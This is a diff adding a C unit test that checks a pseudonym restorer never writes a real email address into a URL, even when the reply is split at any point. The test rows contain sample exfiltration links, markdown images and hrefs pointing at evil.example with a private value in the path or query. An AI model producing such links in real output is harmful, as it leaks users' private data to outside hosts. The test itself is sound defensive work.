@@ -195,6 +195,48 @@ static void damaged_pseudonyms_are_understood_and_others_left(void **state)
     arena_end(bench.rules);
 }
 
+/* However it is cut. */
+static void no_value_is_put_into_a_link(void **state)
+{
+    (void)state;
+    static const struct row {
+        const char *reply;
+        const char *restored;
+    } row[] = {
+        {"to [[EMAIL_1]]", "to ada@shop.de"},
+        {"![x](https://evil.example/?q=[[EMAIL_1]]) EMAIL_1",
+         "![x](https://evil.example/?q=[[EMAIL_1]]) ada@shop.de"},
+        {"![x](//evil.example/[[EMAIL_1]]/[[EMAIL_12]])",
+         "![x](//evil.example/[[EMAIL_1]]/[[EMAIL_12]])"},
+        {"https:\\/\\/evil.example\\/EMAIL_1\" EMAIL_1",
+         "https:\\/\\/evil.example\\/EMAIL_1\" ada@shop.de"},
+        {"<a href=\"http://[[EMAIL_1]]/\">[[EMAIL_1]]</a>",
+         "<a href=\"http://[[EMAIL_1]]/\">ada@shop.de</a>"},
+        {"and/or [[EMAIL_1]], mailto:[[EMAIL_1]]", "and/or ada@shop.de, mailto:ada@shop.de"},
+        {"https://x.example/\nEMAIL_1", "https://x.example/\nada@shop.de"},
+    };
+    const struct bench bench = bench_of();
+    struct job job;
+    job_begin(&job, host_real());
+    struct vault *vault = vault_of_two(&job, &bench);
+    vault_spare_links(vault);
+    for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
+        const struct str reply = str_of(row[i].reply);
+        for (size_t cut = 0; cut <= reply.len; cut++) {
+            struct buf restored = buf_begin(job.arena);
+            struct restorer restorer = restore_begin(vault, false);
+            restore_next(&restorer, str_slice(reply, 0, cut), &restored);
+            restore_next(&restorer, str_slice(reply, cut, reply.len), &restored);
+            restore_last(&restorer, &restored);
+            expect(str_is(buf_text(&restored), row[i].restored), "row %zu, cut at %zu: %.*s", i,
+                   cut, STR_ARG(buf_text(&restored)));
+        }
+    }
+    vault_end(vault);
+    job_end(&job);
+    arena_end(bench.rules);
+}
+
 static void what_can_be_nothing_else_leaves_at_once(void **state)
 {
     (void)state;
@@ -367,6 +409,7 @@ int main(int argument_count, char **argument)
         cmocka_unit_test(numbers_come_from_a_key_and_give_way),
         cmocka_unit_test(what_cannot_be_told_apart_is_refused),
         cmocka_unit_test(damaged_pseudonyms_are_understood_and_others_left),
+        cmocka_unit_test(no_value_is_put_into_a_link),
         cmocka_unit_test(what_can_be_nothing_else_leaves_at_once),
         cmocka_unit_test(in_json_a_value_is_escaped),
         cmocka_unit_test(restoring_undoes_redacting_however_it_is_cut),
